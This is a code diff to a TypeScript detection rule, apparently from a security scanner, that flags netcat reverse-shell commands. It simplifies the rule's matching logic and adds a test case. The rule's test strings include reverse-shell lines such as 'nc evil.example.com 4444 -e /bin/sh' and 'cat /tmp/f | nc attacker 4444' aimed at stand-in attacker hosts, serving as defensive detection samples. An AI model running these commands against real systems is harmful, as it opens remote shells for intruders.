@@ -70,19 +70,6 @@ const BEFORE: ByteRun = noneOf(`${DIGITS}${UPPER}${LOWER.replace(/[nrt]/g, '')}_
 const BLANK = oneOf(' \t\\');
 
 /**
- * Where a text begins with the name, nothing stands before it, and `nc` with a letter behind it is in every `async f`.
- * There the end of the host with the port makes the anchor: a top-level domain of two to five letters, `.example`
- * or `localhost`. It is asked for in the first bytes alone.
- */
-const PORT_AFTER_NAME: readonly ByteRun[] = [
-  ...[2, 3, 4].map((letters) => [...literal('.'), ...oneOf(LOWER, letters), ...literal(' '), ...oneOf(DIGITS, 2)]),
-  [...literal('.'), ...oneOf(LOWER, 5), ...literal(' '), ...oneOf(DIGITS)],
-  [...literal('ample '), ...oneOf(DIGITS, 2)],
-  [...literal('host '), ...oneOf(DIGITS, 2)],
-];
-const MAX_FIRST_PORT = 256;
-
-/**
  * Netcat with a host and a port, or with a shell to serve. A host is a dotted name, an address, `localhost` or a
  * variable; behind an option, or where a command begins, any name. `nc -z`, which only probes, does not count.
  */
@@ -98,11 +85,9 @@ export const reverseShell = defineRule({
     [...literal('ncat'), ...oneOf(' \t'), ...oneOf(`-$[:${DIGITS}`)],
     [...literal('netcat'), ...BLANK],
     [...literal('nc.'), ...oneOf('eto'), ...oneOf('xrp'), ...oneOf('ea')],
-    ...PORT_AFTER_NAME,
   ],
   match(text, at) {
-    const places = at <= MAX_FIRST_PORT ? [at, at + 1, 0] : [at, at + 1];
-    const command = places.map((place) => matchAt(COMMAND, text, place)).find((found) => found !== undefined);
+    const command = [at, at + 1].map((place) => matchAt(COMMAND, text, place)).find((found) => found !== undefined);
     if (command === undefined) return undefined;
     const all = argumentsFrom(text, command.to, at + MAX_REACH);
     const words = all.map(({ word }) => word);
@@ -124,6 +109,7 @@ export const reverseShell = defineRule({
     String.raw`{"cmd":"nc \"$RHOST\" $RPORT"}`,
     'nc evil.example.com 4444 -e /bin/sh',
     'nc attacker.example 80',
+    'nc x.internal  80',
     '{"command":"nc attacker 4444"}',
     'cat /tmp/f | nc attacker 4444',
     'ncat localhost 9001',
